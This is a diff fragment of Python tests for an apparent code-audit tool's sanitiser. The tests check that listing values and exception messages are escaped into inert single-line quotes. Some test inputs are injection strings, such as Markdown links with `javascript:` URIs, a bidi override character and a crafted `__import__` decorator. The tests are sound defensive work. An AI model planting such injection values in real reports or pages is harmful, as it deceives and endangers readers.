+        assert_misbehaved(result, clean_verdict, STOPPED)
+    else:
+        assert (result.verdict, result.reason) == (clean_verdict.verdict, clean_verdict.reason)
+
+
+def test_quote_makes_a_listing_text_one_inert_line():
+    from audit.evaluation.sandbox.quote import LIMIT, clean, quote
+    assert clean("a\nb\tc\x00\x7f\ud800\u202e\u2028") == "a␊b␉c␀␡\ufffd⟨U+202E⟩⟨U+2028⟩"
+    assert len(clean("x" * 5000)) == LIMIT + 1 and clean("x" * 5000).endswith("…")
+    assert quote("the listing's value:", "a”b “c") == "the listing's value: “a⟨U+201D⟩b ⟨U+201C⟩c”"
+    assert quote("L:", "[x](javascript:y) <b> &amp; *e* recall_at_k _u_ `c` # h ~~s~~ \\") == \
+        "L: “\\[x\\](javascript:y) &lt;b> \\&amp; \\*e\\* recall_at_k \\_u\\_ \\`c\\` \\# h \\~\\~s\\~\\~ \\\\”"
+    assert quote("L:", "https://e.example www.e.example a.b@e.example < 1") == \
+        "L: “https\\://e.example www\\.e.example a.b`@`e.example < 1”"
+
+
+def test_a_non_number_and_a_load_error_are_quoted_as_the_listings(canary, tmp_path):
+    from audit.evaluation.checks.code import _problem
+    from audit.evaluation.sandbox import CallResult
+    problem = _problem(CallResult("returns", text="'\\n# h [l](javascript:x)'"), 0, None, "")
+    assert problem == "returns a non-number (the listing's value: “'\\\\n\\# h \\[l\\](javascript:x)'”)"
+    result = audit_listing(tmp_path, "\n@__import__('no_such_module_\\n# h')\ndef recall_at_k(ranking, relevant, k):\n"
+                                     "    return 0.0\n")
+    assert result.verdict == "contradicted"
+    assert result.reason == ("The listing does not load (the listing's exception: “ModuleNotFoundError: No module "
+                             "named 'no_such_module\\_\\\\n\\# h'”).")
